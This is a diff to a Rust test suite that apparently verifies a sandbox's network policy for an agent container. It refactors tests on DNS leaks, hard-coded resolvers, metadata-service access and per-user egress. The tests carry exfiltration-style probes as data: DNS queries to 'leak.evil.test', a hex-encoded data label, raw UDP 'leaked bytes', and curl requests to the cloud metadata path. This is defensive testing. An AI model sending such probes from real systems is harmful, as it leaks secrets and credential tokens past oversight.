@@ -8,9 +8,13 @@ fn packets_to(rig: &Rig, since: Mark, address: &str) -> Vec<String> {
     packets.iter().filter(|packet| packet["dst"] == address).map(ToString::to_string).collect()
 }
 
-fn denied(guest: &RunningBox, what: &str) -> bool {
-    let denials = guest.status()["denials"].as_array().cloned().unwrap_or_default();
-    denials.iter().any(|denial| denial["what"].as_str().is_some_and(|text| text.contains(what)))
+/// It is in the status, which hears of it after the client.
+#[track_caller]
+fn is_told(guest: &RunningBox, what: &str) {
+    guest.await_status(&format!("refusal of {what}"), |status| {
+        let denials = status["denials"].as_array().cloned().unwrap_or_default();
+        denials.iter().any(|denial| denial["what"].as_str().is_some_and(|text| text.contains(what)))
+    });
 }
 
 #[test]
@@ -31,7 +35,7 @@ fn t01_labels_below_an_exact_name_never_leave() {
     assert!(asked.contains(&"a.b.wild.test".to_owned()));
     assert!(!asked.iter().any(|name| name.contains("leak726f6f74")), "{asked:?}");
     assert!(!rig.world.saw("leak726f6f74"));
-    assert!(denied(&guest, "leak726f6f74.ok.test"), "{}", guest.status()["denials"]);
+    is_told(&guest, "leak726f6f74.ok.test");
 }
 
 #[test]
@@ -46,15 +50,23 @@ fn t03_t04_hard_coded_resolvers_are_answered_by_the_box() {
     }
     let guest = rig.boot(&BoxOptions::new());
     let mark = rig.world.sync();
-    for (server, user) in servers.iter().flat_map(|server| [(server, AGENT), (server, ROOT)]) {
-        for transport in ["udp", "tcp"] {
-            let answer = guest.client(user, &["dns", server, "leak.evil.test", "TXT", transport]);
-            assert_eq!(answer.out, "NXDOMAIN\n", "{server} {transport} as {user}: {answer:?}");
-            let answer = guest.client(user, &["dns", server, "ok.test", "A", transport]);
-            assert_eq!(answer.out.trim(), format!("NOERROR {}", host("ok")), "{server}: {answer:?}");
+    let answered = format!("NOERROR {}", host("ok"));
+    let questions = servers.iter().flat_map(|server| {
+        ["udp", "tcp"].into_iter().flat_map(move |transport| {
+            [["dns", server, "leak.evil.test", "TXT", transport], ["dns", server, "ok.test", "A", transport]]
+        })
+    });
+    let questions: Vec<Vec<String>> = questions.map(|words| words.map(str::to_owned).to_vec()).collect();
+    // What is no DNS goes the same way, and nowhere.
+    let noise =
+        servers.iter().map(|server| ["udp", server, "53", "leaked bytes"].map(str::to_owned).to_vec());
+    let noise: Vec<Vec<String>> = noise.collect();
+    for user in [AGENT, ROOT] {
+        for (question, answer) in questions.iter().zip(guest.clients(Some(user), &questions)) {
+            let expected = if question[2] == "ok.test" { answered.as_str() } else { "NXDOMAIN" };
+            assert_eq!(answer.out.trim(), expected, "{question:?} as {user}: {answer:?}");
         }
-        // What is no DNS goes the same way, and nowhere.
-        guest.client(user, &["udp", server, "53", "leaked bytes"]);
+        guest.clients(Some(user), &noise);
     }
     assert!(!rig.world.saw("leak"), "{:?}", rig.world.asked());
     for server in servers.iter().filter(|server| **server != host("upstream")) {
@@ -164,9 +176,12 @@ const METADATA_ADDRESSES: &[&str] =
 #[test]
 fn t32_the_metadata_service_is_out_of_reach_by_every_spelling() {
     let Some(rig) = Rig::new() else { return };
-    let ask = |target: &str| format!("curl -gsS -m 3 --noproxy '*' http://{target}/latest/meta-data/");
+    let ask_for = |seconds: u8, target: &str| {
+        format!("curl -gsS -m {seconds} --noproxy '*' http://{target}/latest/meta-data/")
+    };
+    let ask = |target: &str| ask_for(3, target);
     for spelling in METADATA {
-        let answer = rig.inside(&ask(spelling));
+        let answer = rig.inside(&ask_for(20, spelling));
         assert!(answer.out.contains("token-"), "{spelling}: {answer:?}");
     }
     // The operator allowed a name whose owner lets it point at the metadata service, even as a private one.
@@ -216,15 +231,16 @@ fn t45_the_policy_holds_for_every_process_in_the_network() {
     let guest = rig.boot(&BoxOptions::new());
     let allowed = ["tcp", &ok, "80", "GET /allowed HTTP/1.0\r\nHost: ok.test\r\n\r\n"];
     let mark = rig.world.sync();
-    for attempt in attempts {
-        for (who, answer) in [
-            ("docker exec as the agent", guest.client(AGENT, attempt)),
-            ("docker exec as root", guest.client(ROOT, attempt)),
-            ("docker exec as nobody", guest.client("65534", attempt)),
-            ("nsenter", rig.outside(attempt)),
-        ] {
-            assert!(!answer.ok(), "{who} {attempt:?}: {answer:?}");
+    let all: Vec<Vec<String>> =
+        attempts.iter().map(|attempt| attempt.iter().map(|word| (*word).to_owned()).collect()).collect();
+    for (who, user) in [("the agent", AGENT), ("root", ROOT), ("nobody", "65534")] {
+        for (attempt, answer) in attempts.iter().zip(guest.clients(Some(user), &all)) {
+            assert!(!answer.ok(), "docker exec as {who} {attempt:?}: {answer:?}");
         }
+    }
+    for attempt in attempts {
+        let answer = rig.outside(attempt);
+        assert!(!answer.ok(), "nsenter {attempt:?}: {answer:?}");
     }
     for user in [AGENT, ROOT] {
         let answer = guest.client(user, &allowed);
